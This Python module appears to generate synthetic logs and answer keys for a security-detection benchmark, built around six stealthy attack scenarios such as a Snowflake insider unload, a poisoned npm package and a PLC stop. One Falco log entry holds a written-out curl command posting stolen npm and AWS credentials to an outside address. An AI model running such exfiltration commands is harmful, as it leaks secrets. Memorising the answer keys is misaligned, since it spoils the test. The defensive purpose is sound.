# ruff: noqa: E501
"""Attacks that make little noise: an insider's stage, a package's script, a session that moves, a password in three days, a controller, a token."""

from datetime import datetime, timedelta
from typing import Any

from casebook import Case, Log, iso
from upkeep import old_syslog


def snowflake_query(case: Case, log: Log, when: datetime, user: str, role: str, kind: str, text: str, rows: int, *steps: str) -> None:  # fmt: skip
    """A row of Snowflake's QUERY_HISTORY."""
    log.add(when, {"QUERY_ID": f"01b{case.hex(5)}-0604-{case.hex(4)}-0000-{case.hex(12)}", "QUERY_TEXT": text, "DATABASE_NAME": "SHOP", "SCHEMA_NAME": "PUBLIC", "QUERY_TYPE": kind, "SESSION_ID": case.dice.randrange(10**12), "USER_NAME": user, "ROLE_NAME": role, "WAREHOUSE_NAME": "REPORTS_WH", "EXECUTION_STATUS": "SUCCESS", "ERROR_CODE": None, "ERROR_MESSAGE": None, "START_TIME": iso(when, 3), "ROWS_PRODUCED": rows, "OUTBOUND_DATA_TRANSFER_CLOUD": "AWS" if "s3://" in text or kind == "UNLOAD" else None, "OUTBOUND_DATA_TRANSFER_BYTES": rows * 310 if kind == "UNLOAD" else 0}, *steps)  # fmt: skip


def snowflake_login(case: Case, log: Log, when: datetime, user: str, address: str, *steps: str) -> None:
    """A row of Snowflake's LOGIN_HISTORY."""
    log.add(when, {"EVENT_ID": case.dice.randrange(10**15), "EVENT_TIMESTAMP": iso(when, 3), "EVENT_TYPE": "LOGIN", "USER_NAME": user, "CLIENT_IP": address, "REPORTED_CLIENT_TYPE": "SNOWFLAKE_UI", "REPORTED_CLIENT_VERSION": "8.14.2", "FIRST_AUTHENTICATION_FACTOR": "PASSWORD", "SECOND_AUTHENTICATION_FACTOR": "DUO_PUSH", "IS_SUCCESS": "YES", "ERROR_CODE": None, "ERROR_MESSAGE": None}, *steps)  # fmt: skip


def insider_unloads_to_own_bucket() -> Case:
    """An analyst with every right copies eight tables into a bucket that is not the house's, and removes the stage and the integration."""
    case = Case("m84_snowflake_analyst_unloads_to_own_bucket", "2025-03-10 00:00:00")
    queries, logins = case.log("query_history.jsonl"), case.log("login_history.jsonl")
    desks = {"GRO": "198.51.100.20", "LIV": "198.51.100.20", "ODD": "198.51.100.20"}
    tables = ("CUSTOMERS", "ORDERS", "ADDRESSES", "PRICES", "CONTRACTS", "SUPPLIERS", "MARGINS", "RETURNS")
    for day in range(6):
        for user, address in desks.items():
            start = case.after(days=day, hours=7, minutes=case.dice.randrange(90))
            snowflake_login(case, logins, start, user, address)
            for _ in range(5):
                when = start + timedelta(minutes=case.dice.randrange(5, 420))
                snowflake_query(case, queries, when, user, "ANALYST", "SELECT", f"SELECT region, SUM(total) FROM {case.dice.choice(tables)} GROUP BY region", case.dice.randrange(4, 40))  # fmt: skip
        when = case.after(days=day, hours=2)
        snowflake_query(case, queries, when, "LOADER", "LOADER", "COPY", "COPY INTO ORDERS FROM @shop_in/orders/ FILE_FORMAT = (TYPE = PARQUET)", case.dice.randrange(900, 2000))  # fmt: skip
    start = case.start + timedelta(days=5, hours=19, minutes=41)
    snowflake_login(case, logins, start, "ODD", "198.51.100.20", "~")
    snowflake_query(case, queries, start + timedelta(minutes=2), "ODD", "ANALYST", "CREATE", "CREATE TEMPORARY STAGE tmp_x URL='s3://odd-private-7431/x/' CREDENTIALS=(AWS_KEY_ID='****' AWS_SECRET_KEY='****')", 1, "stage")  # fmt: skip
    for turn, table in enumerate(tables):
        snowflake_query(case, queries, start + timedelta(minutes=4 + 2 * turn), "ODD", "ANALYST", "UNLOAD", f"COPY INTO @tmp_x/{table.lower()} FROM {table} FILE_FORMAT = (TYPE = CSV COMPRESSION = GZIP)", case.dice.randrange(90000, 900000), "taken")  # fmt: skip
    snowflake_query(
        case, queries, start + timedelta(minutes=22), "ODD", "ANALYST", "DROP", "DROP STAGE tmp_x", 1, "hidden"
    )
    case.alert = {"title": "Outbound data transfer above the usual", "severity": "medium", "time": iso(start + timedelta(minutes=12)), "USER_NAME": "ODD", "product": "Snowflake"}  # fmt: skip
    return case.judge(
        "malicious",
        "medium high critical",
        "ODD, with the rights of every day, makes a stage on a private bucket in the evening, copies all eight tables there, which nobody ever did, and drops the stage.",
        steps={"stage": "a stage outside the house", "taken": "eight tables copied out", "hidden": "stage dropped"},
        techniques="T1567",
        more_techniques="T1567.002 T1537 T1530 T1213 T1213.006 T1078 T1078.004 T1070 T1048 T1119 T1074 T1074.002 T1005 T1020",
        iocs=("ODD",),
        more_iocs=("s3://odd-private-7431/x/", "odd-private-7431", "tmp_x"),
        not_iocs=("GRO", "LIV", "LOADER", "198.51.100.20"),
    )  # fmt: skip


def artifactory(
    case: Case, log: Log, when: datetime, address: str, user: str, path: str, size: int, *steps: str
) -> None:
    """A line of Artifactory's request log."""
    log.add(when, f"{iso(when, 3)}|{case.hex(16)}|{address}|{user}|GET|/api/npm/npm-remote/{path}|200|-1|{size}|{case.dice.randrange(3, 90)}|npm/10.8.2 node/v20.18.1 linux x64 workspaces/false ci/jenkins", *steps)  # fmt: skip


def falco(log: Log, when: datetime, rule: str, priority: str, host: str, fields: dict[str, Any], *steps: str) -> None:
    """An alert of Falco as JSON."""
    text = " ".join(f"{name.split('.')[-1]}={value}" for name, value in fields.items())
    log.add(when, {"hostname": host, "output": f"{when.strftime('%H:%M:%S.%f')}000: {priority} {rule} ({text})", "output_fields": {"evt.time": int(when.timestamp() * 10**9), **fields}, "priority": priority, "rule": rule, "source": "syscall", "tags": ["container", "host"], "time": iso(when, 6)[:-1] + "000Z"}, *steps)  # fmt: skip


PACKAGES = (
    "express/-/express-4.19.2.tgz",
    "lodash/-/lodash-4.17.21.tgz",
    "pino/-/pino-9.5.0.tgz",
    "zod/-/zod-3.23.8.tgz",
    "vite/-/vite-5.4.11.tgz",
)


def package_sends_secrets() -> Case:
    """A build fetches a package that nobody fetched before; its install script reads the build's secrets and sends them away."""
    case = Case("m85_artifactory_package_sends_secrets", "2025-11-03 00:00:00")
    requests, alerts = case.log("artifactory-request.log"), case.log("falco.json")
    for day in range(4):
        for build in range(6):
            start = case.after(days=day, hours=7 + build, minutes=case.dice.randrange(40))
            builder = f"10.5.2.{11 + build % 3}"
            for turn, path in enumerate(PACKAGES):
                artifactory(
                    case, requests, start + timedelta(seconds=turn), builder, "jenkins", path, 40000 + 777 * turn
                )
            if build % 2:
                falco(alerts, start + timedelta(seconds=40), "Launch Package Management Process in Container", "Notice", f"build-{1 + build % 3}", {"proc.cmdline": "npm ci --ignore-scripts=false", "proc.name": "npm", "proc.pname": "sh", "user.name": "jenkins", "container.id": case.hex(12)})  # fmt: skip
    start = case.start + timedelta(days=3, hours=14, minutes=12)
    for turn, path in enumerate((*PACKAGES, "zod-form-utils/-/zod-form-utils-1.0.9.tgz")):
        artifactory(case, requests, start + timedelta(seconds=turn), "10.5.2.12", "jenkins", path, 40000 + 777 * turn, *(["package"] if "utils" in path else []))  # fmt: skip
    container = case.hex(12)
    base = {"user.name": "jenkins", "container.id": container}
    falco(alerts, start + timedelta(seconds=19), "Launch Package Management Process in Container", "Notice", "build-2", {"proc.cmdline": "npm ci --ignore-scripts=false", "proc.name": "npm", "proc.pname": "sh", **base}, "~")  # fmt: skip
    falco(alerts, start + timedelta(seconds=24), "Read sensitive file untrusted", "Warning", "build-2", {"fd.name": "/home/jenkins/.npmrc", "proc.cmdline": "node /build/shop/node_modules/zod-form-utils/setup.js", "proc.name": "node", "proc.pname": "sh", **base}, "taken")  # fmt: skip
    falco(alerts, start + timedelta(seconds=25), "Read sensitive file untrusted", "Warning", "build-2", {"fd.name": "/home/jenkins/.aws/credentials", "proc.cmdline": "node /build/shop/node_modules/zod-form-utils/setup.js", "proc.name": "node", "proc.pname": "sh", **base}, "taken")  # fmt: skip
    falco(alerts, start + timedelta(seconds=27), "Unexpected outbound connection destination", "Notice", "build-2", {"fd.name": "10.5.2.12:51822->203.0.113.140:443", "fd.rip": "203.0.113.140", "fd.rport": 443, "proc.cmdline": "curl -s -X POST -d @/tmp/.e https://203.0.113.140/c", "proc.name": "curl", "proc.pname": "node", **base}, "sent")  # fmt: skip
    case.alert = {"title": "Sensitive file read in a build container", "severity": "medium", "time": iso(start + timedelta(seconds=24)), "host": "build-2", "user": "jenkins"}  # fmt: skip
    return case.judge(
        "malicious",
        "high critical",
        "A build on build-2 fetches zod-form-utils, which no build did before; its setup script reads the build account's npm and AWS credentials and sends them to an address outside.",
        steps={"package": "the package comes in", "taken": "credentials read", "sent": "sent away"},
        techniques="T1552",
        more_techniques="T1195 T1195.001 T1195.002 T1552.001 T1041 T1048 T1567 T1059 T1059.007 T1071 T1071.001 T1005 T1105 T1204 T1204.005 T1059.004 T1003",
        iocs=("203.0.113.140",),
        more_iocs=("zod-form-utils", "https://203.0.113.140/c", "/tmp/.e", "build-2", "10.5.2.12", "setup.js", "/build/shop/node_modules/zod-form-utils/setup.js", "zod-form-utils-1.0.9.tgz"),
        not_iocs=("build-1", "build-3", "10.5.2.11"),
    )  # fmt: skip


def box(
    case: Case, log: Log, when: datetime, kind: str, login: str, address: str, session: str, thing: str, *steps: str
) -> None:
    """An event of Box's enterprise stream."""
    source: dict[str, Any] = {"type": "user", "id": str(abs(hash_of(login))), "login": login} if kind == "LOGIN" else {"item_type": "file", "item_id": str(abs(hash_of(thing))), "item_name": thing, "parent": {"type": "folder", "name": "Contracts", "id": "77120"}}  # fmt: skip
    log.add(when, {"type": "event", "event_id": case.uuid(), "created_at": when.strftime("%Y-%m-%dT%H:%M:%S-00:00"), "created_by": {"type": "user", "id": str(abs(hash_of(login))), "name": login.split("@")[0].title(), "login": login}, "event_type": kind, "session_id": session, "ip_address": address, "source": source, "additional_details": {"size": case.dice.randrange(9000, 900000), "service_name": "Box Web"} if kind == "DOWNLOAD" else {}}, *steps)  # fmt: skip


def hash_of(text: str) -> int:
    """A number for a name, the same in every run."""
    return sum((number + 1) * ord(letter) * 7919 for number, letter in enumerate(text))


def session_used_elsewhere() -> Case:
    """A session that began in the office is used from another network an hour later, without a log-in, for forty contracts."""
    case = Case("m86_box_session_used_elsewhere", "2025-06-16 00:00:00")
    log = case.log("box-events.jsonl")
    homes = {
        "ines@lind.example": "198.51.100.40",
        "jon@lind.example": "198.51.100.40",
        "kaja@lind.example": "198.51.100.40",
        "leif@lind.example": "192.0.2.61",
    }
    sessions = {}
    for day in range(4):
        for login, address in homes.items():
            session = sessions[login] = case.hex(24)
            start = case.after(days=day, hours=6, minutes=50 + case.dice.randrange(60))
            box(
                case,
                log,
                start,
                "LOGIN",
                login,
                address,
                session,
                "",
                *(["login"] if day == 3 and login[0] == "k" else []),
            )
            for _ in range(6):
                box(case, log, start + timedelta(minutes=case.dice.randrange(1, 300)), case.dice.choice(("PREVIEW", "PREVIEW", "DOWNLOAD", "UPLOAD")), login, address, session, f"Note {case.dice.randrange(300)}.docx")  # fmt: skip
    start = case.start + timedelta(days=3, hours=9, minutes=17)
    for turn in range(44):
        box(case, log, start + timedelta(seconds=9 * turn), "DOWNLOAD", "kaja@lind.example", "203.0.113.201", sessions["kaja@lind.example"], f"Contract {2019 + turn % 6}-{turn:03d}.pdf", "taken")  # fmt: skip
    case.alert = {"title": "Unusual number of downloads", "severity": "low", "time": iso(start + timedelta(minutes=5)), "user": "kaja@lind.example", "service": "Box"}  # fmt: skip
    return case.judge(
        "malicious",
        "medium high critical",
        "kaja's session of this morning's office log-in is used from a network that nobody uses, while she goes on working in the office: 44 contracts are fetched within seven minutes.",
        steps={"taken": "44 contracts from elsewhere"},
        optional={"login": "the session's only log-in, in the office"},
        techniques="T1530",
        more_techniques="T1539 T1550 T1550.004 T1078 T1078.004 T1213 T1213.002 T1567 T1119 T1020",
        iocs=("203.0.113.201",),
        more_iocs=("kaja@lind.example", "kaja"),
        not_iocs=("ines@lind.example", "198.51.100.40", "leif@lind.example", "192.0.2.61"),
    )  # fmt: skip


def diskstation(log: Log, when: datetime, program: str, message: str, *steps: str) -> None:
    """A line that a Synology DiskStation sends by syslog."""
    log.add(when, old_syslog(when, "nas1", program, message), *steps)


def password_in_three_days() -> Case:
    """An address tries one password of admin2 every hour or two; after three days one is right."""
    case = Case("m87_synology_password_in_three_days", "2025-09-01 00:00:00")
    log = case.log("messages")
    for day in range(4):
        for user, address in (
            ("tuva", "10.0.3.21"),
            ("vetle", "10.0.3.22"),
            ("admin2", "10.0.3.5"),
            ("ylva", "10.0.3.24"),
        ):
            when = case.after(days=day, hours=7, minutes=case.dice.randrange(100))
            if case.dice.random() < 0.3:
                diskstation(log, when - timedelta(seconds=30), "Connection", f"User [{user}] from [{address}] failed to sign in to [DSM] via [password] due to authorization failure.")  # fmt: skip
            diskstation(log, when, "Connection", f"User [{user}] from [{address}] signed in to [DSM] successfully via [password].")  # fmt: skip
        for _ in range(9):
            when = case.after(days=day, hours=7, minutes=case.dice.randrange(500))
            number = case.dice.randrange(3)
            diskstation(log, when, "WinFileService", f"Event: read, Path: /projects/{case.dice.randrange(60)}.odt, File/Folder: File, Size: {case.dice.randrange(20, 900)} KB, User: {('tuva', 'vetle', 'ylva')[number]}, IP: 10.0.3.{(21, 22, 24)[number]}")  # fmt: skip
    when = case.start + timedelta(hours=3)
    while when < case.start + timedelta(days=3, hours=1):
        diskstation(log, when, "Connection", "User [admin2] from [203.0.113.19] failed to sign in to [DSM] via [password] due to authorization failure.", "tried")  # fmt: skip
        when += timedelta(minutes=case.dice.randrange(70, 130))
    start = case.start + timedelta(days=3, hours=2, minutes=8)
    diskstation(
        log,
        start,
        "Connection",
        "User [admin2] from [203.0.113.19] signed in to [DSM] successfully via [password].",
        "in",
    )
    diskstation(log, start + timedelta(minutes=3), "System", "User [svc_media] was created by [admin2].", "kept")
    diskstation(log, start + timedelta(minutes=4), "System", "User [svc_media] was added to the group [administrators] by [admin2].", "kept")  # fmt: skip
    diskstation(log, start + timedelta(minutes=6), "Connection", "User [svc_media] from [203.0.113.19] signed in to [DSM] successfully via [password].", "kept")  # fmt: skip
    for turn in range(12):
        diskstation(log, start + timedelta(minutes=9, seconds=11 * turn), "FileStation", f"Event: download, Path: /projects/{turn + 3}.odt, File/Folder: File, Size: {case.dice.randrange(20, 900)} KB, User: svc_media, IP: 203.0.113.19", "taken")  # fmt: skip
    case.alert = {"title": "New member of the group administrators", "severity": "medium", "time": iso(start + timedelta(minutes=4)), "host": "nas1", "user": "svc_media"}  # fmt: skip
    return case.judge(
        "malicious",
        "high critical",
        "One address tries admin2's password every one or two hours for three days and is let in once; it makes an administrator of its own, comes back as it and downloads.",
        steps={"tried": "passwords tried over three days", "in": "in once", "kept": "an administrator of its own", "taken": "files fetched"},
        techniques="T1110 T1136",
        more_techniques="T1110.001 T1136.001 T1078 T1078.003 T1098 T1098.007 T1039 T1005 T1133 T1567 T1048 T1530 T1041 T1213",
        iocs=("203.0.113.19",),
        more_iocs=("admin2", "svc_media"),
        not_iocs=("10.0.3.5", "tuva", "vetle", "10.0.3.21"),
    )  # fmt: skip


def sonicwall(log: Log, when: datetime, number: int, message: str, user: str, address: str, *steps: str) -> None:
    """A line of a SonicWall firewall's SSL VPN."""
    log.add(when, f'<134>  id=fw-plant sn=18B169A0C1D2 time="{when.strftime("%Y-%m-%d %H:%M:%S")}" fw=198.51.100.9 pri=6 c=16 m={number} msg="{message}" sess="sslvpnc" n=4711 usr="{user}" src={address}::X1 dst=198.51.100.9::X1 proto=tcp/4433', *steps)  # fmt: skip


def guardian(
    case: Case,
    log: Log,
    when: datetime,
    kind: str,
    name: str,
    severity: int,
    source: str,
    target: str,
    *steps: str,
    **more: Any,
) -> None:
    """An alert of Nozomi's Guardian, as CEF."""
    given = " ".join(f"{key}={value}" for key, value in more.items())
    log.add(when, f"{when.strftime('%b %d %Y %H:%M:%S')} guardian1 n2osevents[0]: CEF:0|Nozomi Networks|N2OS|23.4.1|{kind}|{name}|{severity}|app=s7 dvc=10.60.0.4 dvchost=guardian1 cs1={severity}.0 cs2=true cs3={case.uuid()} cs1Label=Risk cs2Label=IsSecurity cs3Label=Id src={source} dst={target} spt={case.dice.randrange(49152, 65000)} dpt=102 start={int(when.timestamp() * 1000)} {given}", *steps)  # fmt: skip


def controller_changed_from_outside() -> Case:
    """The maker's maintenance account comes from elsewhere at night; the engineering station then loads a program and stops a controller."""
    case = Case("m88_nozomi_controller_changed_by_stolen_account", "2025-04-14 00:00:00")
    vpn, plant = case.log("sonicwall.log"), case.log("guardian-cef.log")
    for day in range(5):
        for user, address in (
            ("e.bakke", "198.51.100.71"),
            ("maker-service", "192.0.2.140"),
            ("m.ness", "198.51.100.88"),
        ):
            when = case.after(days=day, hours=7, minutes=case.dice.randrange(200))
            sonicwall(vpn, when, 1080, "SSL VPN zone remote user login allowed", user, address)
            sonicwall(vpn, when + timedelta(minutes=case.dice.randrange(20, 200)), 1081, "SSL VPN zone remote user logout", user, address)  # fmt: skip
        for _ in range(4):
            guardian(case, plant, case.after(days=day, hours=7, minutes=case.dice.randrange(500)), "SIGN:MALFORMED-TRAFFIC", "Malformed traffic", 3, "10.60.1.30", f"10.60.2.{case.dice.randrange(11, 15)}", msg="A malformed S7 packet was seen")  # fmt: skip
    start = case.start + timedelta(days=4, hours=23, minutes=12)
    sonicwall(vpn, start, 1080, "SSL VPN zone remote user login allowed", "maker-service", "203.0.113.118", "in")
    guardian(case, plant, start + timedelta(minutes=4), "VI:NEW-NODE", "New node", 5, "10.60.9.14", "10.60.1.20", "in", msg="New node 10.60.9.14 appeared in the network")  # fmt: skip
    guardian(case, plant, start + timedelta(minutes=5), "VI:NEW-LINK", "New link", 5, "10.60.9.14", "10.60.2.12", "in", msg="New link from 10.60.9.14 to 10.60.2.12 using s7")  # fmt: skip
    guardian(case, plant, start + timedelta(minutes=9), "SIGN:PROGRAM:UPLOAD", "Program upload", 6, "10.60.9.14", "10.60.2.12", "changed", msg="The program of the PLC 10.60.2.12 was uploaded by 10.60.9.14")  # fmt: skip
    guardian(case, plant, start + timedelta(minutes=21), "SIGN:PROGRAM:DOWNLOAD", "Program download", 9, "10.60.9.14", "10.60.2.12", "changed", msg="A program was downloaded to the PLC 10.60.2.12 by 10.60.9.14")  # fmt: skip
    guardian(case, plant, start + timedelta(minutes=23), "SIGN:PLC-STOP", "PLC stop", 9, "10.60.9.14", "10.60.2.12", "changed", msg="A stop command was sent to the PLC 10.60.2.12 by 10.60.9.14")  # fmt: skip
    sonicwall(
        vpn,
        start + timedelta(minutes=31),
        1081,
        "SSL VPN zone remote user logout",
        "maker-service",
        "203.0.113.118",
        "in",
    )
    case.alert = {"title": "Program download to a controller", "severity": "medium", "time": iso(start + timedelta(minutes=21)), "dst": "10.60.2.12", "src": "10.60.9.14"}  # fmt: skip
    return case.judge(
        "malicious",
        "high critical",
        "The maker's account, which comes by day from one address, comes at night from another; a machine that was never seen then reads a controller's program, loads another one and stops the controller.",
        steps={"in": "the account from elsewhere, a machine never seen", "changed": "program read, replaced, controller stopped"},
        techniques="T1133",
        more_techniques="T1078 T1078.001 T0843 T0845 T0858 T0816 T0889 T0821 T0822 T0859 T0886 T0813 T0827 T0828 T0831 T0881 T1021 T1489 T1529 T0814 T1565 T1499 T1018 T1046",
        iocs=("203.0.113.118", "10.60.9.14"),
        more_iocs=("maker-service",),
        not_iocs=("10.60.1.30", "e.bakke", "m.ness", "192.0.2.140", "10.60.2.12"),
    )  # fmt: skip


def cloudflare(case: Case, log: Log, when: datetime, actor: str, address: str, kind: str, resource: str, new: str, *steps: str, interface: str = "API") -> None:  # fmt: skip
    """An entry of Cloudflare's audit log."""
    log.add(when, {"action": {"info": "", "result": True, "type": kind}, "actor": {"email": actor, "id": f"{hash_of(actor):032x}", "ip": address, "type": "user"}, "id": case.uuid(), "interface": interface, "metadata": {"zone_name": "lind.example"}, "newValue": new, "oldValue": "", "owner": {"id": "b4f90dd6cb0a4ecb9f2a8d7c1f3e6a55"}, "resource": {"id": case.hex(32), "type": resource}, "when": iso(when)}, *steps)  # fmt: skip


def token_from_another_network() -> Case:
    """The deployment's token, always used from one address, is used from another: mail goes elsewhere, and a further token is made."""
    case = Case("m89_cloudflare_token_from_another_network", "2025-07-07 00:00:00")
    log = case.log("cloudflare-audit.jsonl")
    for day in range(6):
        for turn in range(5):
            when = case.after(days=day, hours=8 + turn, minutes=case.dice.randrange(60))
            cloudflare(case, log, when, "deploy@lind.example", "198.51.100.23", "rec_set", "DNS_record", f'{{"name":"pr-{case.dice.randrange(900)}.preview.lind.example","type":"CNAME","content":"preview.lind.example"}}')  # fmt: skip
            cloudflare(
                case, log, when + timedelta(seconds=40), "deploy@lind.example", "198.51.100.23", "purge", "zone", ""
            )
        cloudflare(case, log, case.after(days=day, hours=9, minutes=case.dice.randrange(300)), "mari@lind.example", "192.0.2.33", "login", "account", "", interface="UI")  # fmt: skip
    start = case.start + timedelta(days=5, hours=17, minutes=36)
    cloudflare(case, log, start, "deploy@lind.example", "203.0.113.52", "rec_set", "DNS_record", '{"name":"lind.example","type":"MX","content":"mx.lind-mail.example.net","priority":1}', "mail")  # fmt: skip
    cloudflare(case, log, start + timedelta(seconds=30), "deploy@lind.example", "203.0.113.52", "rec_set", "DNS_record", '{"name":"login.lind.example","type":"A","content":"203.0.113.60"}', "mail")  # fmt: skip
    cloudflare(case, log, start + timedelta(minutes=2), "deploy@lind.example", "203.0.113.52", "token_create", "API_token", '{"name":"preview-2"}', "kept")  # fmt: skip
    case.alert = {"title": "MX record changed", "severity": "medium", "time": iso(start), "zone": "lind.example", "actor": "deploy@lind.example"}  # fmt: skip
    return case.judge(
        "malicious",
        "high critical",
        "The deployment's account, which only ever made preview names from one address, points the domain's mail and its log-in page elsewhere from another network, and makes a further token.",
        steps={"mail": "mail and log-in page point elsewhere", "kept": "a further token"},
        techniques="T1098.001",
        more_techniques="T1584 T1584.002 T1565 T1557 T1556 T1098 T1078 T1078.004 T1528 T1550 T1550.001 T1114 T1114.003 T1583.001 T1071.004 T1565.001 T1136 T1578 T1562",
        iocs=("203.0.113.52",),
        more_iocs=("mx.lind-mail.example.net", "203.0.113.60", "deploy@lind.example", "preview-2"),
        not_iocs=("mari@lind.example", "198.51.100.23", "192.0.2.33"),
    )  # fmt: skip


CASES = (
    insider_unloads_to_own_bucket,
    package_sends_secrets,
    session_used_elsewhere,
    password_in_three_days,
    controller_changed_from_outside,
    token_from_another_network,
)
